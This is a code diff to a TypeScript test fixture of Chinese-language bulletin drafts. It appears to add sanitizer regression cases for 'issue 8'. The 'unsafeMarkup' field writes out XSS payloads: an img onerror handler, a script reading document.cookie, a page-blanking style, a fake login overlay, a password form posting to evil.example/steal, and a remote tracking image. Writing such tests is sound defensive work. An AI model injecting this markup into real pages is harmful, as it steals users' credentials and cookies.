@@ -202,7 +202,15 @@ const BULLETIN_DRAFTS: BulletinDraft[] = [
     ],
     listTitle: '防范建议',
     items: ['不要点击短信中的陌生链接。', '定期修改登录密码，不与他人共用账号。', '子账号离职后请及时停用。'],
-    unsafeMarkup: '<p>扫码核验官方网站：<img src=x onerror="alert(1)"></p><script>alert(document.cookie)</script>',
+    // What issue 8 saw get through: script, a handler, a style that blanks the portal, a fixed
+    // overlay, a password form posting elsewhere, a remote (tracking) image.
+    unsafeMarkup: [
+      '<p>扫码核验官方网站：<img src=x onerror="alert(1)"></p><script>alert(document.cookie)</script>',
+      '<p>以下内容应被平台过滤：</p><style>body{display:none}</style>',
+      '<div style="position:fixed;inset:0;z-index:99999;background:#fff">系统维护中，请在下方重新登录</div>',
+      '<form action="https://evil.example/steal" method="post"><p>会话已过期，请重新输入密码：</p><input type="password" name="password"><button>确认</button></form>',
+      '<p><img src="https://evil.example/track.png" alt="广告"></p>',
+    ].join(''),
   },
   {
     title: '暑期亲子游团队包机产品推介',
